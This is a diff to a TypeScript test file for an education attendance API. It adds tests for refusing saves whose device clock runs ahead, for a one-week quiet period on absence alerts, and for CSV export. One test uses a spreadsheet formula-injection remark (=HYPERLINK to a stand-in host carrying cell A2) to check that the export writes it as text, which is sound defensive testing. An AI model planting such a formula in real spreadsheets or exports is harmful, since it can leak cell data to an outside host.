@@ -12,7 +12,7 @@ import { attendance, educationCandidates, notifications } from '#src/server/db/s
 import { memoryMailer } from '#src/server/mail/memory-mailer';
 import { authHeaders, call, createUser, openTestDb, type TestUser } from '#src/server/testing/api';
 import { NOTIFICATION_TYPE } from '#src/features/mailbox/notification-links';
-import { ATTENDANCE_CSV_HEADERS } from './attendance';
+import { ABSENCE_ALERT_QUIET_MS, ATTENDANCE_CSV_HEADERS, ATTENDANCE_TITLES } from './attendance';
 import { educationWorld, openEducation, type EducationWorld } from './fixtures';
 
 let handle: DbHandle;
@@ -122,6 +122,9 @@ describe('saving the roll', () => {
       { candidateId: w.stranger.id, status: 'present' },
     ]);
     expect(stranger).toEqual({ status: 400, json: { title: 'Een van de kandidaten hoort niet bij deze opleiding. Laad de pagina opnieuw.' } });
+    // A device clock far ahead would win over every later correction: refused.
+    const clockAhead = await save(lessons.past1, Math.floor(Date.now() / 1000) + 3600, [{ candidateId: anna.id, status: 'absent_excused' }]);
+    expect(clockAhead).toEqual({ status: 400, json: { title: ATTENDANCE_TITLES.seqAhead } });
     const ahead = await save(lessons.ahead, 200, [{ candidateId: bram.id, status: 'present' }]);
     expect(ahead.status).toBe(400);
     expect(ahead.json.title).toContain('kan pas vanaf');
@@ -132,7 +135,7 @@ describe('saving the roll', () => {
 });
 
 describe('the absence alert', () => {
-  it('tells the coordinators and admins once when a candidate reaches the limit, and again after dropping below it', async () => {
+  it('tells the coordinators and admins once when a candidate reaches the limit, and again only a week later', async () => {
     expect((await call(app, 'PUT', `/api/education/${educationId}`, w.coordinator, { title: 'Basisopleiding Magazijn', absenceLimit: 2 })).status).toBe(200);
     await save(lessons.past2, 300, [{ candidateId: bram.id, status: 'absent' }]);
     expect(await alertsFor(w.coordinator)).toHaveLength(0);
@@ -147,11 +150,19 @@ describe('the absence alert', () => {
     await save(lessons.past1, 302, [{ candidateId: bram.id, status: 'absent' }]);
     await save(lessons.today, 303, [{ candidateId: bram.id, status: 'absent' }]);
     expect(await alertsFor(w.coordinator)).toHaveLength(1);
-    // Two absences turn out to be with notice: below the limit, and a new crossing is told again.
+    // Two absences turn out to be with notice: below the limit; crossing it again the same week stays quiet (marks
+    // flipped back and forth never flood the coordinators) ...
     await save(lessons.today, 304, [{ candidateId: bram.id, status: 'absent_excused' }]);
     await save(lessons.past1, 305, [{ candidateId: bram.id, status: 'absent_excused' }]);
-    expect(await alertedAt(bram)).toBeNull();
     await save(lessons.past1, 306, [{ candidateId: bram.id, status: 'absent' }]);
+    expect(await alertsFor(w.coordinator)).toHaveLength(1);
+    // ... but a crossing a week after the last alert is told again.
+    await handle.db
+      .update(educationCandidates)
+      .set({ absenceAlertedAt: new Date(Date.now() - ABSENCE_ALERT_QUIET_MS - 60_000) })
+      .where(and(eq(educationCandidates.educationId, educationId), eq(educationCandidates.candidateId, bram.id)));
+    await save(lessons.past1, 307, [{ candidateId: bram.id, status: 'absent_excused' }]);
+    await save(lessons.past1, 308, [{ candidateId: bram.id, status: 'absent' }]);
     expect(await alertsFor(w.coordinator)).toHaveLength(2);
     const unread = (await call(app, 'GET', '/api/notification', w.coordinator)).json as { type: number; relatedId: string; href: string }[];
     const link = unread.find((n) => n.type === NOTIFICATION_TYPE.absenceAlert && n.relatedId === educationId);
@@ -182,6 +193,8 @@ describe('totals and the CSV file', () => {
   });
 
   it('gives one row per candidate × lesson, semicolon-separated with a byte order mark', async () => {
+    // A remark a spreadsheet would run as a formula is written as text.
+    expect((await save(lessons.today, 450, [{ candidateId: late.id, status: 'present', remark: '=HYPERLINK("https://x.example/?"&A2)' }])).status).toBe(200);
     const res = await app.request(`/api/education/${educationId}/attendance.csv`, { headers: authHeaders(teacher.token) });
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
@@ -192,6 +205,7 @@ describe('totals and the CSV file', () => {
     expect(lines).toHaveLength(1 + 3 * 4);
     expect(lines.find((l) => l.includes(late.name) && l.includes('nog niet ingeschreven'))).toBeDefined();
     expect(lines.filter((l) => l.includes(anna.name) && l.includes(';te laat;'))).toHaveLength(1);
+    expect(lines.find((l) => l.includes('HYPERLINK'))).toContain(`"'=HYPERLINK(""https://x.example/?""&A2)"`);
   });
 });
 
